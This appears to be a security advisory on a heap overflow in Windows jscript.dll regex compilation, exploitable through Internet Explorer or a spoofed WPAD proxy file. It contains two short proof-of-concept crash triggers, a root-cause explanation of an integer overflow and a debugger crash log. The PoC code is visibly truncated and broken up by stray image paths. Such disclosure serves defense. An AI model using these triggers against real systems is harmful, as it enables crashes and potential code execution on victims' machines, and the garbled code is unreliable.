Microsoft Windows - 'jscript!RegExpComp::Compile' Heap Overflow Through IE or Local Network via WPAD








There is a heap overflow in jscript.dll when compiling a regex. This issue could potentially be exploited through multiple vectors:

 - An attacker on the local network could exploit this issue by posing asa WPAD (Web Proxy Auto-Discovery) host and sending a malicious wpad.dat file to the victim. This works because wpad.dat files are JavaScript files interpreted with jscript.dll on the WPAD client. Note that, in this case, an attacker who successfully exploited the vulnerability would gain the same privileges as the WinHTTP Web Proxy Auto-Discovery Service.

 - The issue can also be exploited by opening a malicious web page in Internet Explorer. In this case, due to the sizes involved, a 64-bit tab process would most likely be required to trigger the issue. This is going to be the case for example when running IE in the Enhanced Protected Mode.

The issue has been verified on 64-bit Win7 and 64-bit Win10 with the most recent patches applied.

PoC for Internet Explorer:


<!-- saved from url=(0014)about:internet -->
<meta http-equiv="X-UA-Compatible" content="IE=8"></meta>
<script language="Jscript.Encode">var s = 'a';
for(vari=0;i<28;i++) {
  s = s+s;
s = s+'[a-z]'+s;

r = new RegExp();



PoC for WPAD:


function FindProxyForURL(url, host) {

  var s = 'a';
  for(var i=0;i<28;i++) {
    s = s+s;
  s = s+'[a-z]'+s;r = new RegExp();

  return "DIRECT";


Technical details:

The issue is in RegExpComp::Compile (and several functions called from RegExpComp::Compile). RegExpComp::Compile is responsible for compiling a RegExp object. It maintains a buffer with the compilation result and extends it when necessary. Extending the buffer is handled using RegExpBase::EnsureSpace whichlooks (approximately) like:

void RegExpBase::EnsureSpace(int desired_size) {
  if(desired_size > buffer_size) {
    if(2 * desired_size < desired_size) {
      //throw an exception
    int new_size = 2 * desired_size;
    char * new_buffer = realloc(buffer, new_size);
    if(!new_buffer) {
      //throw anexception
    buffer = new_buffer;
    buffer_size = new_size;

Note that desired_size is a signed 32-bit integer. RegExpBase::EnsureSpace has an integer overflow check, however if an overflow happens in the caller (a caller must add the size which it wants to append to the existing content size) and desired_sizebecomes negative, RegExpBase::EnsureSpace would simply return because of the first if() statement without attempting to extend the buffer.

Indeed, integer overflows can happen in the several callers of RegExpBase::EnsureSpace. The one being triggered in the PoC is in RegExpComp::Compile, when it attempts to append the raw input string to the buffer towards the end of the compilation process.

Debug log (from IE, but it looks similar in the WPAD service):


(b90.698): Access violation - code c0000005 (first chance)
First chance exceptions are reported before any exception handling.
This exception may be expected and handled.
000007fe`fefe123d 668901          mov     word ptr [rcx],ax ds:00000002`5bb60fe0=????0:012> r
rax=0000000040000061 rbx=00000000042b7ea0 rcx=000000025bb60fe0
rdx=fffffffdfa4b0010 rsi=00000000042b5f48 rdi=000000004000000a
rip=000007fefefe123d rsp=0000000012399ef8 rbp=0000000012399f28
 r8=0000000040000008  r9=0000000000000000 r10=6100610061006100
r11=000000021bb60fd8 r12=0000000016010fe8 r13=000007feebc91670
r14=0000000020000001 r15=0000000000000000
iopl=0         nv up ei pl nz na pe nc
cs=0033  ss=002b  ds=002b  es=002b  fs=0053  gs=002b             efl=00010202
000007fe`fefe123d 668901          mov     word ptr [rcx],ax ds:00000002`5bb60fe0=????

0:012> k
 # Child-SP          RetAddr           Call Site
00 00000000`12399ef8 000007fe`ebc88bb3 msvcrt!memcpy+0x1d9
01 00000000`12399f00 000007fe`ebcfacc2 jscript!RegExpComp::Compile+0x1b7
02 00000000`12399f60 000007fe`ebce2118 jscript!RegExpComp::CompileDynamic+0x62
03 00000000`12399fa0 000007fe`ebce3310 jscript!RegExpObj::Compile+0x32c
04 00000000`1239a0f0 000007fe`ebc7c2ec jscript!JsRegExpCompile+0x70
05 00000000`1239a140 000007fe`ebc7a9fe jscript!NatFncObj::Call+0x138
06 00000000`1239a1f0 000007fe`ebc7b234 jscript!NameTbl::InvokeInternal+0x3f8
07 00000000`1239a310 000007fe`ebc79852 jscript!VAR::InvokeByName+0x81c
08 00000000`1239a520 000007fe`ebc79929 jscript!VAR::InvokeDispName+0x72
09 00000000`1239a5a0 000007fe`ebc724b8 jscript!VAR::InvokeByDispID+0x1229
0a 00000000`1239a5f0 000007fe`ebc78ec2 jscript!CScriptRuntime::Run+0x5a6
0b 00000000`1239b3f0 000007fe`ebc78d2b jscript!ScrFncObj::CallWithFrameOnStack+0x1620c 00000000`1239b600 000007fe`ebc78b95 jscript!ScrFncObj::Call+0xb7
0d 00000000`1239b6a0 000007fe`ebc7e6c0 jscript!CSession::Execute+0x19e
0e 00000000`1239b770 000007fe`ebc870e7 jscript!COleScript::ExecutePendingScripts+0x17a
0f 00000000`1239b840 000007fe`ebc868d6 jscript!COleScript::ParseScriptTextCore+0x267
10 00000000`1239b930 000007fe`ecdf5251 jscript!COleScript::ParseScriptText+0x56
11 00000000`1239b990000007fe`ed57b320 MSHTML!CActiveScriptHolder::ParseScriptText+0xc1
12 00000000`1239ba10 000007fe`ecdf6256 MSHTML!CScriptCollection::ParseScriptText+0x37f
13 00000000`1239baf0 000007fe`ecdf5c8e MSHTML!CScriptData::CommitCode+0x3d9
14 00000000`1239bcc0 000007fe`ecdf5a11 MSHTML!CScriptData::Execute+0x283
15 00000000`1239bd80 000007fe`ed5b46fb MSHTML!CHtmScriptParseCtx::Execute+0x101
16 00000000`1239bdc0 000007fe`ece98a5b MSHTML!CHtmParseBase::Execute+0x235
17 00000000`1239be60 000007fe`ecd72e39 MSHTML!CHtmPost::Broadcast+0x90
1800000000`1239bea0 000007fe`ecdccaef MSHTML!CHtmPost::Exec+0x4bb
19 00000000`1239c0b0 000007fe`ecdcca40 MSHTML!CHtmPost::Run+0x3f
1a 00000000`1239c0e0 000007fe`ecdcda12 MSHTML!PostManExecute+0x70
1b 00000000`1239c160 000007fe`ecdd0843 MSHTML!PostManResume+0xa1
1c 00000000`1239c1a0 000007fe`ecdb6fc7 MSHTML!CHtmPost::OnDwnChanCallback+0x43
1d 00000000`1239c1f0 000007fe`ed5e4f78 MSHTML!CDwnChan::OnMethodCall+0x41
1e00000000`1239c220 000007fe`eccd9d75 MSHTML!GlobalWndOnMethodCall+0x240
1f 00000000`1239c2c0 00000000`77229bbd MSHTML!GlobalWndProc+0x150
20 00000000`1239c340 00000000`772298c2 USER32!UserCallWinProcCheckWow+0x1ad
21 00000000`1239c400 000007fe`f29d4a87 USER32!DispatchMessageWorker+0x3b5
22 00000000`1239c480 000007fe`f29dbabb IEFRAME!CTabWindow::_TabWindowThreadProc+0x555
23 00000000`1239f700 000007fe`fd73572fIEFRAME!LCIETab_ThreadProc+0x3a3
24 00000000`1239f830 000007fe`ee62925fiertutil!_IsoThreadProc_WrapperToReleaseScope+0x1f25 00000000`1239f860 00000000`773259cd IEShims!NS_CreateThread::DesktopIE_ThreadProc+0x9f
26 00000000`1239f8b0 00000000`7745a561kernel32!BaseThreadInitThunk+0xd
27 00000000`1239f8e0 00000000`00000000ntdll!RtlUserThreadStart+0x1d